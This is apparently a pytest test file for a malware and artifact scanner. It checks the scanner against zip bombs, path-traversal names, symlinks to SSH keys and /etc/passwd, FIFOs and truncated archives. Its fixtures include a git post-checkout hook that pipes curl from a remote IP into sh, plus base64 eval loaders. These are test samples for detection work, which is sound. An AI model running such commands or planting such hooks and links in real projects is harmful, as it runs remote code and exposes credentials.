"""The safe walk against hostile and broken inputs: zip bombs, 10,000-member archives, traversal
names, links out of the tree and loops, truncated archives, oversized and special files. Each gives
a clear finding, never hangs or crashes, never writes anything, and the rest of the tree is scanned."""

from __future__ import annotations

import gzip
import io
import os
import tarfile
import tracemalloc
import zipfile
from pathlib import Path

from heistguard.artifacts.filetype import Kind
from heistguard.artifacts.scanner import Scanner
from heistguard.artifacts.walk import Limits, Member, Problem, walk, walk_bytes
from heistguard.config import ArtifactsConfig
from tests.artifacts.bombs import MiB, gigabyte_gzip, gigabyte_zip, nested_like_42, zeros_zip
from tests.artifacts.build import vint, zip_of

LOADER = b"const s = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString();\neval(s);\n"


def _tgz(members: list[tarfile.TarInfo], contents: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tf:
        for info in members:
            data = contents.get(info.name)
            if data is not None:
                info.size = len(data)
            tf.addfile(info, io.BytesIO(data) if data is not None else None)
    return buffer.getvalue()


def _problems(items: list[Member | Problem]) -> dict[str, list[str]]:
    out: dict[str, list[str]] = {}
    for item in items:
        if isinstance(item, Problem):
            out.setdefault(item.kind, []).append(item.detail)
    return out


def _ids(scanner: Scanner, name: str, data: bytes) -> set[str]:
    return {f.rule_id for f in scanner.scan_bytes(name, data).findings}


def test_zip_bomb_stops_at_the_ratio(scanner: Scanner) -> None:
    bomb = gigabyte_zip()
    assert len(bomb) < 2_000_000
    items = list(walk_bytes("bomb.zip", bomb))
    (detail,) = _problems(items)["archive-bomb"]
    assert "expand to 1,000,000,000 (ratio" in detail  # told from the declared sizes, nothing decompressed
    assert not any(isinstance(i, Member) and i.inner.endswith("zeros.bin") for i in items)
    assert "artifacts.archive-bomb" in _ids(scanner, "bomb.zip", bomb)


def test_gzip_bomb_and_nested_bombs_stop() -> None:
    assert "archive-bomb" in _problems(list(walk_bytes("x.bin.gz", gigabyte_gzip())))
    nested = zip_of({"inner.zip": zeros_zip("z", 150 * MiB)}, zipfile.ZIP_STORED)
    assert "archive-bomb" in _problems(list(walk_bytes("outer.zip", nested)))
    # The 42.zip shape: ZIPs of 16 ZIPs of 16 ZIPs over 1 GB of zeros, 14 KB in all.
    shaped = nested_like_42()
    assert len(shaped) < 20_000
    items = list(walk_bytes("42.zip", shaped))
    assert [i.path for i in items if isinstance(i, Problem)] == ["42.zip!lib 10.zip!lib 00.zip!zeros.bin"]
    assert _problems(items)["archive-bomb"][0].endswith("(ratio 1,028:1, limit 200:1)")


def test_small_highly_compressible_members_are_not_bombs(scanner: Scanner) -> None:
    zeros = bytes(2_000_000)  # 2 MB of zeros deflate about 1000:1, a repetitive log a few hundred to one
    log = b"".join(b"2025-11-04T09:%02d:00Z INFO worker-1 heartbeat ok\n" % (i % 60) for i in range(40_000))
    archive = zip_of({"data/blank.img": zeros, "logs/app.log": log, "setup.js": LOADER})
    with zipfile.ZipFile(io.BytesIO(archive)) as zf:
        assert {i.filename: i.file_size // i.compress_size > 200 for i in zf.infolist()}["data/blank.img"]
    for name, data in (
        ("logs.zip", archive),
        ("blank.img.gz", gzip.compress(zeros)),
        (
            "logs.tgz",
            _tgz([tarfile.TarInfo("app.log"), tarfile.TarInfo("blank.img")], {"app.log": log, "blank.img": zeros}),
        ),
    ):
        items = list(walk_bytes(name, data))
        assert "archive-bomb" not in _problems(items), name
        assert sum(isinstance(i, Member) and i.depth == 1 for i in items) >= 1, name
        assert "artifacts.archive-bomb" not in _ids(scanner, name, data), name
    assert "artifacts.js-decoded-exec" in _ids(scanner, "logs.zip", archive)  # scanned past the zeros


def test_the_stream_bomb_check_holds_no_more_than_a_few_mib() -> None:
    data = gigabyte_gzip()
    tracemalloc.start()
    try:
        assert "archive-bomb" in _problems(list(walk_bytes("x.bin.gz", data)))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 16 * MiB, peak


def test_total_size_limit_over_many_members() -> None:
    archive = zip_of({f"f{i}.txt": os.urandom(300_000) for i in range(5)})
    problems = _problems(list(walk_bytes("a.zip", archive, Limits(max_total_bytes=1_000_000))))
    assert "archive-bomb" in problems


def test_ten_thousand_members_is_a_finding_and_the_first_ones_are_scanned(scanner: Scanner) -> None:
    members = {f"pkg/f{i:05d}.js": b"module.exports = 1;\n" for i in range(10_000)}
    members["pkg/f00000.js"] = LOADER
    verdict = scanner.scan_bytes("many.zip", zip_of(members))
    ids = {f.rule_id for f in verdict.findings}
    assert "artifacts.archive-limit" in ids
    assert "artifacts.js-decoded-exec" in ids


def test_traversal_and_absolute_names_are_reported_and_nothing_is_written(tmp_path: Path, scanner: Scanner) -> None:
    archive = zip_of(
        {"../../evil.js": LOADER, "/etc/cron.d/job": b"* * * * * root id\n", "C:\\Windows\\x.bat": b"@echo off\n"}
    )
    path = tmp_path / "work" / "a.zip"
    path.parent.mkdir()
    path.write_bytes(archive)
    before = sorted(p.name for p in tmp_path.rglob("*"))
    verdict = scanner.scan_path(path)
    assert sorted(p.name for p in tmp_path.rglob("*")) == before
    traversal = [f for f in verdict.findings if f.rule_id == "artifacts.archive-path-traversal"]
    assert len(traversal) == 3
    # the member's content is still scanned, under a cleaned name
    decoded = [f for f in verdict.findings if f.rule_id == "artifacts.js-decoded-exec"]
    assert decoded and decoded[0].evidence[0].location.path == f"{path}!evil.js"


def test_tar_links_devices_and_traversal() -> None:
    link_out = tarfile.TarInfo("pkg/id_rsa")
    link_out.type, link_out.linkname = tarfile.SYMTYPE, "../../../home/user/.ssh/id_rsa"
    link_in = tarfile.TarInfo("pkg/alias.js")
    link_in.type, link_in.linkname = tarfile.SYMTYPE, "index.js"
    hard = tarfile.TarInfo("pkg/passwd")
    hard.type, hard.linkname = tarfile.LNKTYPE, "/etc/passwd"
    device = tarfile.TarInfo("pkg/null")
    device.type = tarfile.CHRTYPE
    climb = tarfile.TarInfo("../outside.js")
    index = tarfile.TarInfo("pkg/index.js")
    data = _tgz([link_out, link_in, hard, device, climb, index], {"../outside.js": LOADER, "pkg/index.js": b"1;\n"})
    items = list(walk_bytes("pkg.tgz", data))
    problems = _problems(items)
    assert len(problems["link-out-of-tree"]) == 2
    assert len(problems["special-file"]) == 1
    assert len(problems["archive-path-traversal"]) == 1
    names = {i.inner for i in items if isinstance(i, Member)}
    assert {"pkg.tgz!outside.js", "pkg.tgz!pkg/index.js"} <= names


def test_truncated_archives_are_findings(scanner: Scanner) -> None:
    whole = zip_of({"a.js": LOADER * 50, "b.js": b"x" * 5000})
    assert "artifacts.unreadable-file" in _ids(scanner, "cut.zip", whole[: len(whole) // 2])
    tgz = _tgz([tarfile.TarInfo("p/a.js")], {"p/a.js": os.urandom(20_000)})
    assert "artifacts.unreadable-file" in _ids(scanner, "cut.tgz", tgz[: len(tgz) // 2])


def test_nesting_depth_limit() -> None:
    data = b"payload"
    for level in range(6):
        data = zip_of({f"level{level}.zip" if level else "x.txt": data})
    problems = _problems(list(walk_bytes("deep.zip", data, Limits(max_depth=3))))
    assert "depth limit" in problems["archive-limit"][0]


def test_file_over_the_size_limit_is_reported_and_its_head_scanned(tmp_path: Path) -> None:
    big = tmp_path / "big.js"
    big.write_bytes(LOADER + b"//" + b"x" * (2 * 1024 * 1024))
    scanner = Scanner(config=ArtifactsConfig(max_file_mb=1), use_yara=False)
    ids = {f.rule_id for f in scanner.scan_path(big).findings}
    assert {"artifacts.file-too-large", "artifacts.js-decoded-exec"} <= ids


def test_tree_with_hostile_entries_reports_them_and_scans_the_rest(tmp_path: Path, scanner: Scanner) -> None:
    root = tmp_path / "repo"
    (root / "src").mkdir(parents=True)
    (root / "src" / "loader.js").write_bytes(LOADER)
    os.mkfifo(root / "src" / "pipe")  # opening it would block forever
    (root / "loop_a").symlink_to(root / "loop_b")
    (root / "loop_b").symlink_to(root / "loop_a")
    (root / "ssh").symlink_to(Path.home() / ".ssh" / "id_rsa")
    (root / "up").symlink_to(tmp_path)  # a directory link that would loop if followed
    (root / "inside").symlink_to(root / "src")  # inside the tree: silently skipped
    (root / "broken.zip").write_bytes(zip_of({"a": b"x" * 1000})[:40])
    verdict = scanner.scan_path(root)
    by_rule: dict[str, list[str]] = {}
    for finding in verdict.findings:
        by_rule.setdefault(finding.rule_id, []).append(finding.evidence[0].location.path or "")
    assert by_rule["artifacts.special-file"] == [f"{root}/src/pipe"]
    assert sorted(by_rule["artifacts.link-out-of-tree"]) == [
        f"{root}/loop_a",
        f"{root}/loop_b",
        f"{root}/ssh",
        f"{root}/up",
    ]
    assert by_rule["artifacts.unreadable-file"] == [f"{root}/broken.zip"]
    assert by_rule["artifacts.js-decoded-exec"] == [f"{root}/src/loader.js"]


def test_git_objects_are_skipped_but_hooks_and_config_read(tmp_path: Path) -> None:
    git = tmp_path / "repo" / ".git"
    (git / "objects" / "ab").mkdir(parents=True)
    (git / "objects" / "ab" / "cdef").write_bytes(b"x" * 100)
    (git / "hooks").mkdir()
    (git / "hooks" / "post-checkout").write_bytes(b"#!/bin/sh\ncurl -s http://203.0.113.7/p | sh\n")
    (git / "config").write_bytes(b"[core]\n\tbare = false\n")
    inner = sorted(i.inner for i in walk(tmp_path / "repo") if isinstance(i, Member))
    assert inner == [".git/config", ".git/hooks/post-checkout"]


def test_missing_input_is_an_error_verdict(tmp_path: Path, scanner: Scanner) -> None:
    verdict = scanner.scan_path(tmp_path / "nope")
    assert verdict.verdict == "error" and "no such file" in (verdict.error or "")


def test_crx_and_whl_are_opened(scanner: Scanner) -> None:
    crx = b"Cr24\x03\x00\x00\x00\x08\x00\x00\x00" + b"\x00" * 8 + zip_of({"background.js": LOADER})
    assert "artifacts.js-decoded-exec" in _ids(scanner, "ext.crx", crx)
    whl = zip_of(
        {
            "pkg/__init__.py": b"import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))\n",
            "pkg-1.0.dist-info/METADATA": b"Name: pkg\n",
        }
    )
    assert "artifacts.py-decoded-exec" in _ids(scanner, "pkg-1.0-py3-none-any.whl", whl)


def test_parallel_scan_gives_the_same_verdict(tmp_path: Path, scanner: Scanner) -> None:
    root = tmp_path / "tree"
    for i in range(600):
        folder = root / f"pkg{i // 50}"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"m{i}.js").write_bytes(LOADER if i in (7, 433) else b"module.exports = %d;\n" % i)
    (root / "pkg3" / "broken.zip").write_bytes(b"PK\x03\x04truncated")
    single = scanner.scan_path(root)
    parallel = Scanner(workers=2).scan_path(root)
    assert parallel == single
    assert len([f for f in single.findings if f.rule_id == "artifacts.js-decoded-exec"]) == 2


def test_identify_finds_a_script_shape_behind_padding_by_default() -> None:
    from heistguard.artifacts.filetype import Kind, identify

    padded = (
        b"' " + b"x" * 78 + b"\n" * 1 + (b"' padding comment line\n" * 400) + b'Set s = CreateObject("WScript.Shell")\n'
    )
    assert len(padded) > 8192
    assert identify(padded).detail == "vbscript"
    assert identify(padded, text_head=4096).kind is Kind.TEXT


def _tar(mode: str, members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def test_tar_bz2_tar_xz_jar_and_vsix_are_opened(scanner: Scanner) -> None:
    """Every archive shape the issue names is unpacked in memory and its members scanned."""
    members = {"package/index.js": LOADER}
    for name, data in (
        ("pkg.tar.bz2", _tar("w:bz2", members)),
        ("pkg.tar.xz", _tar("w:xz", members)),
        ("pkg.tar", _tar("w", members)),
        ("ext.vsix", zip_of({"extension/out/main.js": LOADER})),
        ("tool.jar", zip_of({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "web/loader.js": LOADER})),
    ):
        assert "artifacts.js-decoded-exec" in _ids(scanner, name, data), name


MACROS = Path(__file__).parent.parent / "fixtures" / "artifacts" / "macros"


def _padded_first(document: bytes, padding: int) -> bytes:
    """The document's own members behind `padding` bytes of incompressible media, as Word writes a large
    .docx whose pictures come before [Content_Types].xml: the head of the file is only the picture."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(document)) as original, zipfile.ZipFile(buffer, "w") as padded:
        padded.writestr("word/media/image1.png", b"\x89PNG\r\n\x1a\n" + os.urandom(padding))
        for info in original.infolist():
            padded.writestr(info, original.read(info))
    return buffer.getvalue()


def test_a_large_document_or_jar_is_typed_as_a_small_one_is(tmp_path: Path, scanner: Scanner) -> None:
    real = (MACROS / "oleform-PR314.docm").read_bytes()  # a real macro-enabled Word document
    jar = zip_of({"com/acme/Tool.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(64)})
    for size in (0, 200_000):  # the same answer whether [Content_Types].xml is in the first 64 KiB or not
        docm = _padded_first(real, size)
        assert (len(docm) > 65536) == bool(size) and docm.index(b"[Content_Types].xml") > (65536 if size else 0)
        path = tmp_path / f"report-{size}.docm"
        path.write_bytes(docm)
        items = list(walk(path))
        (top,) = [i for i in items if isinstance(i, Member)]  # a document is not unpacked as a plain ZIP
        assert top.filetype.kind is Kind.OOXML and top.filetype.detail == "macro-enabled", size
        assert "artifacts.office-macro" in {f.rule_id for f in scanner.scan_path(path).findings}
        # A JAR whose manifest comes after large resources is a Java archive, also inside another archive.
        big_jar = zip_of({"assets/blob.bin": os.urandom(size), "META-INF/MANIFEST.MF": b"Main-Class: a.Main\n"})
        outer = zip_of({"lib/tool.jar": big_jar, "lib/small.jar": jar}, zipfile.ZIP_STORED)
        kinds = {i.inner: i.filetype.kind for i in walk_bytes("dist.zip", outer) if isinstance(i, Member)}
        assert kinds["dist.zip!lib/tool.jar"] is Kind.JAR and kinds["dist.zip!lib/small.jar"] is Kind.JAR


def test_a_document_over_the_size_limit_is_typed_from_its_central_directory(tmp_path: Path) -> None:
    path = tmp_path / "big.docm"
    path.write_bytes(_padded_first((MACROS / "oleform-PR314.docm").read_bytes(), 1_500_000))
    items = list(walk(path, Limits(max_file_bytes=1024 * 1024)))
    assert [i.kind for i in items if isinstance(i, Problem)] == ["file-too-large"]
    (top,) = [i for i in items if isinstance(i, Member)]
    assert top.filetype.kind is Kind.OOXML and top.filetype.detail == "macro-enabled" and len(top.data) == 1024 * 1024


def test_a_rar_member_header_past_64_kib_is_read() -> None:
    encrypted = (Path(__file__).parent.parent / "fixtures" / "artifacts" / "encrypted" / "rar5-psw.rar").read_bytes()
    # A plain 100 KB member spliced in after rar5-psw.rar's main archive header: its encrypted members' headers
    # now lie past the first 64 KiB. (RAR 5 file header: type 2, flags "data follows", data size, file flags,
    # unpacked size, attributes, compression, host OS, name length, name; the CRC is not checked.)
    main_size = encrypted[12]  # a one-byte vint after the main header's CRC
    main_end = 13 + main_size
    data, name = os.urandom(100_000), b"big.bin"
    header = vint(2) + vint(2) + vint(len(data)) + vint(0) + vint(len(data)) + vint(0x20)
    header += vint(0) + vint(0) + vint(len(name)) + name
    rar = encrypted[:main_end] + bytes(4) + vint(len(header)) + header + data + encrypted[main_end:]
    problems = [i for i in walk_bytes("big.rar", rar) if isinstance(i, Problem)]
    assert {p.path for p in problems if p.kind == "encrypted-member"} == {"big.rar!stest1.txt", "big.rar!stest2.txt"}
